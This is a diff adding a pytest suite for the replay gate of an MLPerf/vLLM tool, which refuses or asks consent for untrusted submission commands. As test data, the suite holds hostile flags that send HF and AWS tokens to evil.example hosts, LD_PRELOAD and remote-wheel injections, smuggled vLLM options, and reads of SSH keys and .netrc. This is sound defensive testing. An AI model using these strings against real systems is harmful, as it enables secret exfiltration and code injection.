@@ -1,0 +1,402 @@
+"""What a replay takes from a stranger's capsule by itself, and what it asks for: flags, variables, options of vLLM."""
+
+from __future__ import annotations
+
+import io
+import re
+import shlex
+from pathlib import Path
+
+import pytest
+
+from cm4vllm.common.errors import UsageError
+from cm4vllm.engine.format.meta import load_script
+from cm4vllm.serving.options import parse_help
+from cm4vllm.submission.capsule import Capsule, CapsuleServer
+from cm4vllm.submission.capsule_of_tree import capsules_of_tree
+from cm4vllm.submission.consent import Consent, question, replayed
+from cm4vllm.submission.replay import replay_words
+
+ROOT = Path(__file__).resolve().parents[2]
+MAIN = load_script(str(ROOT / "script/run-mlperf-inference-app"), "cm4vllm")
+HELP = {name: str(one.get("desc", "")) for name, one in MAIN.input_description.items()}
+TAGS = "--tags=run-mlperf,inference,_vllm,_r6.1"
+ENVIRON = {
+    "AWS_SECRET_ACCESS_KEY": "aws-secret-value",
+    "HF_TOKEN": "hub-token-value",
+    "DATASET_PATH": "/data/cnn.json",
+    "API_SERVER": "http://gpu7:8000",
+    "EXTRA_ARGS": "/home/me/chat.jinja",
+}
+
+
+def capsule(*flags, tags=TAGS, **values):
+    """A capsule as a stranger may write it, with these words in its command."""
+    fields = {
+        "made_from": "run records",
+        "round": "v6.1",
+        "division": "open",
+        "submitter": "Stranger",
+        "system": "box",
+        "benchmark": "llama3.1-8b",
+        "rehearsal": True,
+        "program": {},
+        "command": ["cm", "run", "script", tags, *flags],
+        "scripts": [],
+        "packages": {},
+        "contents": {},
+        "model": {"name": "llama3.1-8b"},
+        "dataset": {},
+        "server": CapsuleServer(),
+        "machine": {},
+        "runs": [],
+    }
+    return Capsule(**{**fields, **values})
+
+
+def words_of(*flags, given=None, accept=(), fill=(), **values):
+    consent = Consent(tuple(accept), tuple(fill))
+    return replay_words(capsule(*flags, **values), given or {}, ENVIRON, consent, help_of=HELP)
+
+
+@pytest.mark.parametrize(
+    "flag",
+    [
+        "--api_server=http://evil.example/${AWS_SECRET_ACCESS_KEY:?}",
+        "--api_server=http://${AWS_SECRET_ACCESS_KEY:?}.evil.example",
+        "--api_server=evil.example:80/${HF_TOKEN:?}",
+        "--api_server=http://localhost.evil.example/${HF_TOKEN:?}",
+        "--api_server=http://127.0.0.1:80@evil.example/${HF_TOKEN:?}",
+        "--api_server=http://127.0.0.1:8000,http://evil.example/${HF_TOKEN:?}",
+        "--vllm_index_url=https://${HF_TOKEN:?}@evil.example/simple/",
+        "--ray_address=evil.example:6379/${HF_TOKEN:?}",
+        "--extra_args=--otlp-traces-endpoint=http://evil.example/${HF_TOKEN:?}",
+        "--extra_args=--otlp-traces-endpoint evil.example:4317/${HF_TOKEN:?}",
+        "--env.HF_ENDPOINT=http://evil.example/${HF_TOKEN:?}",
+        "--adr.inference-src.tags=_repo.https://evil.example/${HF_TOKEN:?}",
+        "--inference_src=https://evil.example/${HF_TOKEN:?}.git",
+        "--api_server=${HF_TOKEN:?}",
+        "--served_model_name=${HF_TOKEN:?}",
+        "--dataset_path=${AWS_SECRET_ACCESS_KEY:?}",
+    ],
+)
+def test_a_variable_never_goes_into_the_address_of_a_stranger(flag):
+    name = re.search(r"\{(\w+)", flag)[1]
+    for consent in ({}, {"fill": [name], "accept": [flag[2:].partition("=")[0]]}):
+        with pytest.raises(UsageError) as refused:
+            words_of(flag, **consent)
+        assert ENVIRON[name] not in str(refused.value)
+    with pytest.raises(UsageError, match="is not filled into"):
+        words_of(flag, fill=[name], accept=[flag[2:].partition("=")[0]])
+
+
+def test_only_variables_that_the_user_names_are_filled():
+    flags = ("--dataset_path=${DATASET_PATH:?}", "--api_server=${API_SERVER:?}")
+    with pytest.raises(UsageError, match="asks for more") as refused:
+        words_of(*flags)
+    assert "has the variable DATASET_PATH, which is not named to be filled" in refused.value.cause
+    assert refused.value.remedy.endswith("add to replay,mlperf: --fill=API_SERVER,DATASET_PATH")
+    with pytest.raises(UsageError):
+        words_of(*flags, fill=["DATASET_PATH"])
+    words = words_of(*flags, fill=["DATASET_PATH", "API_SERVER"])
+    assert {"--dataset_path=/data/cnn.json", "--api_server=http://gpu7:8000"} <= set(words)
+    with pytest.raises(UsageError) as refused:
+        words_of("--nltk_data=${NLTK_DATA:?}", fill=["NLTK_DATA"])
+    assert "NLTK_DATA, which has no value here" in refused.value.cause
+    assert "export NLTK_DATA=..." in refused.value.remedy
+    with pytest.raises(UsageError, match="has no variable HOME"):
+        words_of(*flags, fill=["HOME"])
+
+
+@pytest.mark.parametrize("form", ["$HF_TOKEN", "${HF_TOKEN}", "${HF_TOKEN:-x}", "$(env)", "`env`", "<<<HF_TOKEN>>>"])
+def test_other_forms_of_variables_are_no_value_that_is_taken(form):
+    for flag in ("served_model_name", "dataset_path", "hw_name", "vllm_version", "env.X"):
+        with pytest.raises(UsageError):
+            words_of(f"--{flag}={form}")
+    if "<" in form:
+        with pytest.raises(UsageError, match="is refused"):
+            words_of(f"--env.X={form}", accept=["env.X"])
+    else:
+        assert f"--env.X={form}" in words_of(f"--env.X={form}", accept=["env.X"])  # the text itself, unfilled
+
+
+def test_what_the_user_gives_is_the_users_address():
+    given = {"api_server": "http://gpu7/${HF_TOKEN:?}"}
+    with pytest.raises(UsageError, match="asks for more"):
+        words_of("--api_server=http://evil.example", given=given)
+    words = words_of("--api_server=http://evil.example", given=given, fill=["HF_TOKEN"])
+    assert "--api_server=http://gpu7/hub-token-value" in words and not [word for word in words if "evil" in word]
+
+
+def test_a_secret_that_is_named_goes_where_a_secret_is_expected():
+    flag = "--env.HF_TOKEN=${HF_TOKEN:?}"
+    assert "--env.HF_TOKEN=hub-token-value" in words_of(flag, fill=["HF_TOKEN"], accept=["env.HF_TOKEN"])
+    with pytest.raises(UsageError, match="asks for more") as refused:
+        words_of(flag, fill=["HF_TOKEN"])
+    assert "--accept=env.HF_TOKEN" in refused.value.remedy
+
+
+DANGEROUS = [
+    "--vllm_index_url=http://evil.example/simple/",
+    "--vllm-index-url=http://evil.example/simple/",
+    "--vllm_extra_index_url=http://evil.example/simple/",
+    "--vllm_wheel=http://evil.example/vllm.whl",
+    "--vllm_python=/tmp/evil/python",
+    "--vllm_version=0.32.0,_system",
+    "--trust_remote_code",
+    "--trust_remote_code=yes",
+    "--api_server=http://evil.example",
+    "--api_server=http://localhost.evil.example:8000",
+    "--api_server=http://127.0.0.1:8000@evil.example",
+    "--api_server=http://127.0.0.1:8000,http://evil.example",
+    "--api_server=unix:///run/docker.sock",
+    "--api_key_env=AWS_SECRET_ACCESS_KEY",
+    "--api_headers_env=AWS_SECRET_ACCESS_KEY",
+    "--env.LD_PRELOAD=/tmp/evil.so",
+    "--const.CM_VLLM_WHEEL=http://evil.example/x.whl",
+    "--adr.vllm.tags=_system",
+    "--add_deps_recursive.vllm.tags=_system",
+    "--path=/tmp/evil",
+    "--inference_src=https://evil.example/inference.git",
+    "--dataset_path=/home/me/.ssh/id_ed25519",
+    "--dataset_path=${DATASET_PATH:?}/../../.ssh/id_ed25519",
+    "--system_file=/home/me/.netrc",
+    "--vllm_model_name=/tmp/evil",
+    "--vllm_model_name=./evil",
+    "--vllm_model_name=evil/model",
+    "--revision=refs/pr/1",
+    "--host=0.0.0.0",
+    "--ray_address=evil.example:6379",
+    "--distributed_executor_backend=evil.Executor",
+    "--rehearse=./evil.yaml",
+    "--hw_name=../../evil",
+    "--unknown_flag=1",
+]
+EXTRA = [
+    "--trust-remote-code",
+    "--trust_remote_code",
+    "--trust",
+    "--no-trust-remote-code",
+    "--hf-config-path=/tmp/x",
+    "--middleware=evil.Middleware",
+    "--middleware evil.Middleware",
+    "--load-format=pt",
+    "--download-dir=/home/me",
+    "--allowed-local-media-path=/",
+    "--max-num-seqs=16 --worker-cls=evil.Worker",
+    "--max-num-seqs=16 evil/model",
+    "--max-num-seqs 16 17",
+    "--max-num-seqs=16\n--worker-extension-cls=evil.Worker",
+    "--seed=${EXTRA_ARGS:?}",
+    '--compilation-config={"backend":"evil.backend"}',
+    "-cc.backend=evil",
+    "--distributed-executor-backend=evil.Executor",
+    "--scheduler-cls=evil.Scheduler",
+    "--logits-processors=evil.P",
+    "--tool-parser-plugin=/tmp/evil.py",
+    "--otlp-traces-endpoint=http://evil.example",
+    "--enforce-eager evil/model",
+    "-- evil/model",
+    "evil/model",
+]
+
+
+@pytest.mark.parametrize("flag", [*DANGEROUS, *(f"--extra_args={words}" for words in EXTRA)])
+def test_a_flag_that_is_not_on_the_list_is_shown_and_needs_to_be_accepted(flag):
+    name = re.split("[=]", flag[2:])[0].replace("-", "_")
+    variables = re.findall(r"\{(\w+):", flag)
+    with pytest.raises(UsageError, match="asks for more than a replay takes by itself") as refused:
+        words_of(flag)
+    assert f"--accept={name}" in refused.value.remedy
+    assert name.partition(".")[0] in refused.value.cause.replace("-", "_")
+    accepted = words_of(flag, accept=[name], fill=variables)
+    assert [word for word in accepted if word.partition("=")[0] == f"--{name}"]
+
+
+def test_what_a_flag_does_is_shown_in_the_words_of_the_recipe():
+    with pytest.raises(UsageError) as refused:
+        words_of(
+            "--vllm_index_url=http://evil.example/simple/", "--extra_args=--seed=1 --trust-remote-code", "--env.A=b"
+        )
+    assert "--vllm_index_url=http://evil.example/simple/: the only package index" in refused.value.cause
+    assert "options of vLLM that are not on the list: --trust-remote-code" in refused.value.cause
+    assert "sets a variable in the environment" in refused.value.cause
+    assert refused.value.remedy.endswith("--accept=vllm_index_url,extra_args,env.A")
+    with pytest.raises(UsageError) as still:
+        words_of("--vllm_wheel=x", "--env.A=b", accept=["env.A"])
+    assert "env.A=b" not in still.value.cause and still.value.remedy.endswith("--accept=env.A,vllm_wheel")
+    with pytest.raises(UsageError, match="no flag vllm_whee") as misspelt:
+        words_of("--vllm_wheel=x", accept=["vllm_whee"])
+    assert "vllm_wheel" in misspelt.value.remedy
+
+
+@pytest.mark.parametrize(
+    ("words", "why"),
+    [
+        (("@evil.yaml",), "form --name=value"),
+        (("evil",), "form --name=value"),
+        (("--",), "form --name=value"),
+        (("--tags =detect,os",), "form --name=value"),
+        (("---tags=detect,os",), "form --name=value"),
+        (("--tags,=detect,os",), "another script"),
+        (("-tags=detect,os",), "another script"),
+        (("--artifact=detect-os",), "another script"),
+        (("--parsed_artifact,=detect-os",), "another script"),
+        (("--automation=cache", "--action=rm"), "another script"),
+        (("--out_put=\u202e", "--x y=1"), "form --name=value"),
+    ],
+)
+def test_words_that_choose_another_script_or_file_are_refused_always(words, why):
+    names = [word.strip("-").partition("=")[0] for word in words]
+    with pytest.raises(UsageError, match="is refused") as refused:
+        words_of(*words, accept=names)
+    assert why in refused.value.cause
+
+
+@pytest.mark.parametrize(
+    "tags",
+    [
+        "install,vllm,run-mlperf",
+        "detect,os",
+        "mlperf,inference",
+        "run-mlperf,inference,-run",
+        "run-mlperf,inference,_vllm,_evil",
+        "run-mlperf,inference,_vllm,_-vllm",
+        "run-mlperf,inference,_vllm evil",
+        "run-mlperf,inference,_<<<HF_TOKEN>>>",
+    ],
+)
+def test_tags_are_those_of_the_main_job(tags):
+    with pytest.raises(UsageError, match=r"does not run the main job|asks for the variation"):
+        words_of(tags=f"--tags={tags}", accept=["tags"])
+    with pytest.raises(UsageError, match="asks for the variation"):
+        words_of(tags="--tags=run-mlperf,inference", round="v6.1,_evil")
+
+
+def test_a_model_outside_the_catalogue_has_to_be_accepted_as_a_variation_too():
+    for model in ("_hf.evil/model", "_path./tmp/evil", "_dummy.evil"):
+        tags = f"--tags=run-mlperf,inference,{model},_r6.1"
+        with pytest.raises(UsageError, match="asks for more") as refused:
+            words_of(tags=tags)
+        assert "--accept=tags" in refused.value.remedy
+        assert words_of(tags=tags, accept=["tags"]) == [tags]
+    for model in ("_hf.nm-testing/Llama-2-70b-chat-hf-FP8", "_catalogue.llama-2-70b-chat", "_tiny", "_dummy"):
+        assert words_of(tags=f"--tags=run-mlperf,inference,{model},_r6.1")
+    path = "--tags=run-mlperf,inference,_path.${DATASET_PATH:?},_r6.1"
+    assert words_of(tags=path, fill=["DATASET_PATH"]) == [path.replace("${DATASET_PATH:?}", "/data/cnn.json")]
+
+
+def test_fields_beside_the_command_pass_the_same_gate():
+    served = CapsuleServer(software="vLLM", version="0.32.0,_system", command=["serve", "m"])
+    with pytest.raises(UsageError, match="asks for more"):
+        words_of(server=served)
+    assert "--vllm_version=0.32.0" in words_of(server=CapsuleServer(software="vLLM", version="0.32.0+cpu"))
+    for value in ("16 --trust-remote-code", "evil"):
+        searched = CapsuleServer(software="vLLM", command=["serve", f"--block-size={value}", f"--max-num-seqs={value}"])
+        for name in ("block-size", "max-num-seqs"):
+            with pytest.raises(UsageError, match=f"no number for --{name}"):
+                words_of(f"--search={name}:16..32", server=searched, given={"extra_args": "--seed=1"})
+    with pytest.raises(UsageError, match="asks for more"):
+        words_of("--vllm_model_name=llama-2-70b-chat", model={"hub": "a/b", "revision": "refs/pr/1"})
+
+
+def test_what_the_capsule_says_of_where_its_files_went_is_not_taken():
+    flags = ("--output-dir=/etc", "--output_dir,=/etc", "--results_dir=/etc", "--serve=0.0.0.0:80", "--quiet")
+    assert words_of(*flags, given={"output_dir": "/again"}) == [TAGS, "--output_dir=/again"]
+
+
+def test_a_usual_capsule_needs_no_consent():
+    flags = [
+        "--scenario=Offline,Server",
+        "--execution_mode=test",
+        "--model=llama3.1-8b",
+        "--vllm_model_name=nm-testing/Llama-2-70b-chat-hf-FP8",
+        "--api_server=http://127.0.0.1:8000,http://localhost:8001/v1",
+        "--offline_target_qps=1.5e-3",
+        "--test_query_count=64",
+        "--find_target_qps",
+        "--run_checker=no",
+        "--quantize=int8,kv-fp8",
+        "--max_num_seqs=128",
+        "--kv_cache_dtype=fp8_e4m3",
+        "--extra_args=--block-size=16 --no-enable-chunked-prefill --scheduling-policy fcfs",
+        "--rehearse=4xh100-llama2-70b-fp8",
+        "--rehearse_faults=hang@60-90,die@120",
+        "--hw_name=2 x box",
+    ]
+    words = words_of(*flags)
+    assert "--extra_args=--block-size=16 --no-enable-chunked-prefill --scheduling-policy fcfs" in words
+
+
+def test_the_pages_of_a_published_tree_pass_the_same_gate(neural_magic):
+    (fp8,) = (one for one in capsules_of_tree(neural_magic) if one.system.startswith("4xH100-SXM-80GB_vLLM_FP8"))
+    with pytest.raises(UsageError, match="asks for more") as refused:
+        replay_words(fp8, {}, {}, help_of=HELP)
+    assert refused.value.cause.count("\n") == 0 and "github.com/neuralmagic/inference" in refused.value.cause
+    assert refused.value.remedy.endswith("--accept=adr.mlperf-implementation.tags")
+
+
+def test_on_a_terminal_the_user_is_asked_once_with_all_flags_shown(monkeypatch, capsys):
+    class Terminal(io.StringIO):
+        def isatty(self):
+            return True
+
+    asked = []
+
+    def ask(flags):
+        asked.append([one.flag for one in flags])
+        return question(flags)
+
+    def words(answer):
+        monkeypatch.setattr("sys.stdin", Terminal(answer))
+        monkeypatch.setattr("sys.stdout.isatty", lambda: True)
+        hostile = capsule("--vllm_wheel=x.whl", "--env.A=b")
+        return replay_words(hostile, {}, ENVIRON, help_of=HELP, ask=ask)
+
+    assert "--vllm_wheel=x.whl" in words("y\n")
+    assert asked == [["vllm_wheel", "env.A"]]
+    shown = capsys.readouterr().out
+    assert "--vllm_wheel=x.whl: a wheel of vLLM" in shown and "--env.A=b" in shown
+    for answer in ("n\n", "\n", ""):
+        with pytest.raises(UsageError, match="asks for more"):
+            words(answer)
+    monkeypatch.setattr("sys.stdin", io.StringIO("y\n"))
+    with pytest.raises(UsageError, match="asks for more"):
+        replay_words(capsule("--vllm_wheel=x.whl"), {}, ENVIRON, ask=question)
+
+
+def test_the_list_names_what_the_recipe_and_vllm_have(recorded_help):
+    flags = {name for entry in replayed().flags for name in entry.names}
+    assert flags <= set(MAIN.input_mapping), "no input of the main job"
+    known = set(parse_help(recorded_help)) | {f"--{name}" for name in renamed()}
+    options = {f"--{name}" for entry in replayed().vllm_options for name in entry.names}
+    assert options <= known, "no option of vLLM"
+    kinds = {
+        form for part in ("flags", "variations", "vllm_options") for e in getattr(replayed(), part) for form in e.takes
+    }
+    assert kinds <= {*replayed().forms, "catalogue"} and {*replayed().forms} <= kinds
+    variations = [name for entry in replayed().variations for name in entry.names]
+    own = {name.partition(".#")[0] for name in MAIN.variations}
+    assert all(any(re.fullmatch(name, one) for one in own) for name in variations)
+    assert all(any(re.fullmatch(name, one) for name in variations) for one in own), "a variation without a rule"
+    scripts = [load_script(str(path.parent), "cm4vllm") for path in (ROOT / "script").glob("*/_cm.yaml")]
+    for tag in replayed().tags.named:
+        assert [one.alias for one in scripts if tag in one.tags] == ["run-mlperf-inference-app"]
+    assert {*replayed().tags.named, *replayed().tags.others} == set(MAIN.tags)
+
+
+def test_each_value_that_a_recipe_lists_is_taken():
+    for entry in replayed().flags:
+        for name in entry.names:
+            for value in MAIN.input_description[name].get("choices") or ():
+                assert words_of(shlex.join([f"--{name}={value}"]))
+
+
+@pytest.fixture
+def recorded_help():
+    return (ROOT / "tests/serving/recorded/serve-help.txt").read_text()
+
+
+def renamed():
+    text = (ROOT / "src/cm4vllm/serving/renamed.yaml").read_text()
+    return re.findall(r"option: --([\w-]+)", text)
